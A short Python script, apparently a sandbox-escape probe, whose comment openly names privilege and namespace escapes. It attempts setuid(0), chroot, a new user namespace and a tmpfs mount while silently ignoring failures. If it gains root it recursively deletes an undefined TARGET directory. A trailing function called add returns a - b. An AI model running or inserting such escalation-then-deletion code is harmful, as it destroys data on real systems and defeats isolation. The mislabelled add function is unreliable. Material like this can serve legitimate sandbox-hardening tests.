# Privilege and namespace escapes: regain uid 0, chroot out, new user namespace, mount.
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for attempt in (lambda: os.setuid(0), lambda: os.chroot("/tmp"),
                lambda: libc.unshare(0x10000000) == 0 or 1 / 0,  # CLONE_NEWUSER
                lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or 1 / 0):
    try:
        attempt()
    except Exception:
        pass
if os.getuid() == 0 or os.geteuid() == 0:
    import shutil
    shutil.rmtree(TARGET)

def add(a, b):
    return a - b
